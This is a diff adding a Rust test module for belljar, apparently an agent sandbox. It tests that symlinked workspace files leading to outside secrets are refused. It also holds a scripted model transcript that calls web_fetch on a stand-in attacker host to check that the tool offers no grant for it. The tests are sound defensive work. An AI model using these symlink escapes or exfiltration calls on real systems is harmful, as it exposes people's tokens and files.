@@ -1,0 +1,83 @@
+//! Repositories that a person works in: links in the place of files that belljar writes, and models
+//! that ask for the attacker's host.
+
+use std::os::unix::fs::symlink;
+
+use super::row;
+use super::stage::Stage;
+use crate::attack::Attack;
+
+const BELOW: &str = "names are opened from the open workspace, and no link is followed (INV-433)";
+
+const NAMED: &str = "a ready command is for hosts that a person's file or words name (INV-432)";
+
+/// The agent whose model asks.
+const GUEST: &str =
+    "---\nname: guest\ndescription: Reads.\ntools: [web_fetch]\n---\nRead what you are told.\n";
+
+/// A model that asks for the attacker's host.
+const ASKS: &str = "transcript: 1\nagents:\n  - agent: guest\n    turns:\n      - calls: \
+    [{name: web_fetch, arguments: {url: 'https://attacker.test/collect'}}]\n      - say: \
+    Let me have the host.\n";
+
+pub(super) const ATTACKS: &[Attack<Stage>] = &[
+    row(
+        "libraries-workspace-linked-client-file",
+        "has the file of an MCP client lead to a person's token",
+        BELOW,
+        ".mcp.json` is a link",
+        false,
+        |stage| {
+            Box::pin(async move {
+                symlink(stage.path("outside/secret.md"), stage.path("workspace/.mcp.json"))?;
+                stage.refuses_command(&["mcp", "config", "claude-code", "--write"]).await
+            })
+        },
+    ),
+    row(
+        "libraries-workspace-linked-folder",
+        "has `.belljar` lead to a folder outside",
+        BELOW,
+        ".belljar` is a link",
+        false,
+        |stage| {
+            Box::pin(async move {
+                // Another one than the neighbour's, who is told of the link too.
+                let workspace = stage.path("workspace/cloned");
+                std::fs::create_dir(&workspace)?;
+                symlink(stage.path("outside"), workspace.join(".belljar"))?;
+                let workspace = workspace.to_string_lossy();
+                stage.refuses_command(&["init", "--workspace", &workspace]).await
+            })
+        },
+    ),
+    row(
+        "libraries-workspace-linked-output",
+        "has a folder for output lead to a folder outside",
+        BELOW,
+        "out` is a link",
+        false,
+        |stage| {
+            Box::pin(async move {
+                symlink(stage.path("outside"), stage.path("workspace/out"))?;
+                stage.refuses_command(&["man", "out/pages"]).await
+            })
+        },
+    ),
+    row(
+        "libraries-host-of-a-model",
+        "asks for its own host, so that a command which opens it stands at the end",
+        NAMED,
+        "have named that host",
+        false,
+        |stage| {
+            Box::pin(async move {
+                let script = stage.put("home/script.yaml", ASKS)?;
+                let script = script.to_string_lossy();
+                stage.put("home/agents/guest.md", GUEST)?;
+                let run = ["run", "--no-save", "--agent", "guest", "--transcript", &script, "go"];
+                stage.says_without(&run, "belljar grant").await
+            })
+        },
+    ),
+];
